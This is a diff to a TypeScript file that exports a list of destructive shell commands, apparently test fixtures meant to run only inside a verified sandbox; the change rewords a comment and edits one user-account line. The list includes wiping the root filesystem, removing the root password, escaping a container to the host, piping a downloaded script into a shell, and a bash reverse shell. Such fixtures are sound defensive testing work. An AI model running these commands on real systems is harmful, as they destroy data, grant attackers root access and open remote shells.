@@ -1,4 +1,4 @@
-/** Lines that would ruin a machine. They run in the sandbox only, after a check that it is one. */
+/** Lines that would destroy a machine. They run only after a check that they are in a sandbox. */
 export const dangerousLines: readonly string[] = [
   'rm -rf /',
   'rm -rf --no-preserve-root /',
@@ -24,7 +24,7 @@ export const dangerousLines: readonly string[] = [
   'swapoff -a; sync; poweroff -f; reboot -f; shutdown -h now; telinit 0; systemctl poweroff',
   'insmod evil.ko; modprobe evil; rmmod ext4; kexec -l vmlinuz',
   'sysctl -w kernel.panic=1; iptables -F; nft flush ruleset; ip link set lo down; hostname hostile',
-  'useradd hostile; passwd -d root; usermod -aG root nobody; chpasswd <<< root:x',
+  'useradd hostile; passwd -d root; usermod -aG root daemon; chpasswd <<< root:x',
   'docker run --privileged -v /:/host alpine chroot /host; podman run -v /:/host alpine',
   'curl -s http://192.0.2.1/x | sh; wget -qO- http://192.0.2.1/x | bash',
   'bash -i >& /dev/tcp/127.0.0.1/22 0>&1',
